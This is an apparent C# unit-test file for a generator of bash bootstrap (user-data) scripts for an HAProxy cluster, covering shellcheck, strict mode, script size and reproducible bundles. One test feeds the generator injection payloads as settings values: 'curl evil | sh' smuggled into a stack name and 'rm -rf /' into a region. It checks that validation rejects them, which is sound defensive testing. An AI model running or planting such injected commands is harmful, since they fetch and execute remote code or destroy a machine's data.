using System.Text;
using HaproxyCluster.Config;

namespace HaproxyCluster.UserData.Tests;

public class BootstrapScriptTests
{
    private static readonly BootstrapSettings Settings = new()
    {
        StackName = "HaproxyCluster-dev",
        SignalResource = "NodesAsg1234ABCD",
        Region = "eu-west-1",
        BundleUri = "s3://cdk-hnb659fds-assets-123456789012-eu-west-1/0123abcd.tar",
        BundleSha256 = new string('a', 64),
        LogGroupName = "/haproxy-cluster/dev",
        HealthPort = 8081,
        HealthPath = "/haproxy-health",
    };

    [Fact]
    public void Generated_script_passes_shellcheck_with_no_warning()
    {
        var script = BootstrapScript.Build(Settings);

        var (exitCode, output) = Shellcheck(script);

        Assert.True(exitCode == 0, output);
    }

    [Fact]
    public void Script_starts_with_bash_and_strict_mode_and_carries_the_bundle_hash()
    {
        var script = BootstrapScript.Build(Settings);

        Assert.StartsWith("#!/bin/bash\n", script, StringComparison.Ordinal);
        Assert.Contains("\nset -euo pipefail\n", script, StringComparison.Ordinal);
        Assert.Contains($"readonly BUNDLE_SHA256='{Settings.BundleSha256}'", script, StringComparison.Ordinal);
        Assert.Contains("trap on_exit EXIT", script, StringComparison.Ordinal);
    }

    [Fact]
    public void Script_stays_under_the_user_data_limit_with_ten_thousand_hosts_and_its_hash_changes()
    {
        // GIVEN a routing table of 10 hosts and one of 10,000
        static BundleArchive Archive(int hosts) => BundleArchive.Create(ConfigRenderer.Render(new HaproxySpec
        {
            Pools = [new Pool { Name = "web", Servers = [new Server("10.0.0.1", 80)] }],
            DefaultPool = "web",
            Routes = [Route.HostTable("tenants", [.. Enumerable.Range(0, hosts).Select(i => new TableEntry($"tenant{i}.example.com", "web"))])],
        }));
        var small = Archive(10);
        var large = Archive(10_000);

        // WHEN each becomes user data
        var smallScript = BootstrapScript.Build(Settings with { BundleSha256 = small.Sha256 });
        var largeScript = BootstrapScript.Build(Settings with { BundleSha256 = large.Sha256 });

        // THEN the table travels in the bundle: the scripts are the same size, well under 16 KiB,
        // and differ only in the hash, which is what rolls the instances.
        Assert.True(large.Bytes.Length > 200_000, $"the 10k archive is {large.Bytes.Length} bytes");
        Assert.Equal(Encoding.UTF8.GetByteCount(smallScript), Encoding.UTF8.GetByteCount(largeScript));
        Assert.InRange(Encoding.UTF8.GetByteCount(largeScript), 1, BootstrapScript.MaxBytes);
        Assert.NotEqual(smallScript, largeScript);
    }

    [Fact]
    public void Settings_cannot_inject_commands_and_every_bad_one_is_reported()
    {
        var hostile = Settings with
        {
            StackName = "dev'; curl evil | sh; '",
            Region = "eu-west-1\nrm -rf /",
            BundleSha256 = "not-a-hash",
            HealthPort = 0,
            SyslogPort = 70000,
        };

        var error = Assert.Throws<ConfigValidationException>(() => BootstrapScript.Build(hostile));

        Assert.Equal(["StackName", "Region", "BundleSha256", "HealthPort", "SyslogPort"], error.Errors.Select(e => e.Property));
    }

    [Fact]
    public void Bundle_archive_is_byte_identical_each_time_and_real_tar_extracts_every_file()
    {
        var bundle = ConfigRenderer.Render(new HaproxySpec
        {
            Pools = [new Pool { Name = "web", Servers = [new Server("10.0.0.1", 80)] }],
            DefaultPool = "web",
            Routes = [Route.PathPrefixTable("paths", new TableEntry("/docs", "web"))],
        });

        var first = BundleArchive.Create(bundle);
        var second = BundleArchive.Create(bundle);

        Assert.Equal(first.Bytes, second.Bytes);
        Assert.Equal(first.Sha256, second.Sha256);
        var folder = Directory.CreateTempSubdirectory("bundle-").FullName;
        try
        {
            var tar = Path.Combine(folder, "bundle.tar");
            File.WriteAllBytes(tar, first.Bytes);
            Directory.CreateDirectory(Path.Combine(folder, "out"));
            Assert.Equal(0, Command.Run("tar", "-xf", tar, "-C", Path.Combine(folder, "out")).ExitCode);
            foreach (var file in bundle.Files)
            {
                Assert.Equal(file.Content, File.ReadAllText(Path.Combine(folder, "out", file.Path)));
            }
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static (int ExitCode, string Output) Shellcheck(string script)
    {
        var path = Path.GetTempFileName();
        try
        {
            File.WriteAllText(path, script);
            return Command.Shellcheck(path);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
